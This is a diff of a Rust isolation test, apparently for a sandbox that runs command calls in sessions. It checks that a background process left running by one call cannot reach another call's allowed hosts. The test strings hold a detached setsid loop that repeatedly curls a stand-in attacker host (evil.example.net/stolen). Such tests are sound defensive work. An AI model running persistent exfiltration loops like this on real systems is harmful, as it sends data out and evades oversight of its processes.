@@ -68,25 +68,31 @@ fn each_call_of_a_session_has_its_own_list(lab: &Lab) {
 
 fn what_one_call_left_running_has_nothing_of_the_next(lab: &Lab) {
     lab.forget();
-    // What it asks for tells during which call it did.
-    let stays = "echo first > call; \
-                 (setsid sh -c 'while :; do read call < call; curl -sS http://evil.example.net/$call; curl -sSf http://www.example.org/$call && touch reached; sleep 0.02; done' >/dev/null 2>&1 </dev/null &) ; \
-                 until [ -e reached ]; do sleep 0.02; done";
-    let later = "echo later > call; sleep 0.7";
-    let told = calls(lab, &[("one", stays), ("two", later), ("one", later)]);
+    // The first word that it reached its host ends the call.
+    let stays = "{ setsid sh -c 'exec 3>&1 >/dev/null 2>&1 </dev/null; while :; do curl -sS http://evil.example.net/stolen; curl -sSf http://www.example.org/stolen && { echo reached >&3; exec 3>/dev/null; }; sleep 0.02; done' & } | read reached";
+    let later = |url: &str| format!("curl -sSf {url}; sleep 0.7");
+    let (second, third) = (
+        later("http://evil.example.net/second"),
+        later("http://www.example.org/third"),
+    );
+    let told = calls(lab, &[("one", stays), ("two", &second), ("one", &third)]);
     assert_eq!(told.len(), 3);
     let requests = lab.seen().requests();
-    assert!(!requests.iter().any(|request| request.contains("evil")), "{requests:?}");
-    // The twin: while its own call ran, it did reach its own host.
+    let places = |path: &str| -> Vec<usize> {
+        let named = |request: &String| request.contains(path);
+        let found = requests.iter().enumerate().filter(|(_, request)| named(request));
+        found.map(|(place, _)| place).collect()
+    };
+    let (stolen, second, third) = (places("/stolen"), places("/second"), places("/third"));
+    // The twin: while its own call ran, it did reach its own host. It never reached another's.
+    assert!(!stolen.is_empty(), "{requests:?}");
     assert!(
-        requests.iter().any(|request| request.contains("/first")),
+        stolen.iter().all(|place| !requests[*place].contains("evil")),
         "{requests:?}"
     );
     // And with the call it ended.
-    assert!(
-        !requests.iter().any(|request| request.contains("/later")),
-        "{requests:?}"
-    );
+    assert!(second.len() == 1 && third.len() == 1, "{requests:?}");
+    assert!(stolen.iter().all(|place| *place < second[0]), "{requests:?}");
 }
 
 fn what_waits_when_a_call_ends_is_no_concern_of_the_next(lab: &Lab) {
